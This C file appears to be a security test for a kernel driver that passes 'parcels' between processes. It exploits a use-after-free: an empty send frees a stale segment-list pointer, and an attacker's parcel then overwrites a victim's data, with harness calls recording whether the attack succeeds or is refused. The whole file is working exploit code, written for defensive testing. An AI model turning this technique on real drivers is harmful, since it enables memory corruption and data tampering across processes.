// SPDX-License-Identifier: GPL-2.0-only
/*
 * Send from many buffers, then from none: the second send gives up at once, and frees the list of
 * buffers that it has not made yet. The pointer is in memory that the driver uses again and again,
 * and names the list of the first send, long freed. A victim's parcel lies there by then, and the
 * attacker's next parcel comes to lie there too.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"

#define SEGMENTS	PARCEL_MAX_SEGMENTS
#define SIZE		(SEGMENTS * sizeof(struct parcel_segment))	/* parcel and list */
#define TRIES		10

static long send_segments(int file, __u32 box, __u32 n)
{
	struct parcel_segment segments[SEGMENTS];
	struct parcel_send send = {
		.handle = box,
		.segments = (uintptr_t)segments,
		.nr_segments = n,
		.length = SEGMENTS,
	};
	int i;

	for (i = 0; i < SEGMENTS; i++)
		segments[i] = (struct parcel_segment){ .address = (uintptr_t)"x", .length = 1 };
	return device_call(file, PARCEL_IOC_SEND, &send);
}

enum { SEND, RECEIVE };

/* The victim writes its secret to its private box, and reads it: is it still what was sent? */
static long act(struct victim_state *state, int command)
{
	struct parcel_select select = { .handle = state->box };
	static int selected;
	char bytes[SIZE] = "";

	if (!selected)
		must("select", device_call(state->file, PARCEL_IOC_SELECT, &select));
	selected = 1;
	if (command == SEND) {
		memcpy(bytes, state->secret, SECRET_SIZE);
		return write(state->file, bytes, SIZE) == SIZE ? 0 : -errno;
	}
	if (read(state->file, bytes, SIZE) != SIZE)
		return -errno;
	return strcmp(bytes, state->secret) ? !strcmp(bytes, "forged") : 2;
}

int main(int argc, char **argv)
{
	char bytes[SIZE] = "forged";
	struct victim victim;
	long result = 0, seen;
	__u32 box, forged;
	int file, i;

	attack_begin(argc, argv);
	victim_start(&victim, act);
	file = device_open();
	box = private_box(file);
	forged = private_box(file);
	/* Everything that is needed once is allocated now. */
	must("let the victim send", victim_do(&victim, SEND));
	must("let the victim receive", victim_do(&victim, RECEIVE));

	for (i = 0; i < TRIES; i++) {
		must("send", send_segments(file, box, SEGMENTS));
		must("let the victim send", victim_do(&victim, SEND));
		result = send_segments(file, box, 0);
		if (result != -EINVAL)
			could_not("a send from no buffer says %ld", result);
		/* It stays in a box with a name, and is never freed. */
		must("send", parcel_send(file, forged, bytes, SIZE, NULL, 0));
		seen = victim_do(&victim, RECEIVE);
		must("let the victim receive", seen);
		if (seen == 1)
			achieved("corrupts", "another process received my bytes for its own");
		if (seen == 0)
			achieved("corrupts", "another process received what it had not sent");
	}
	refused("%s, and every parcel is whole", error_name(result));
}
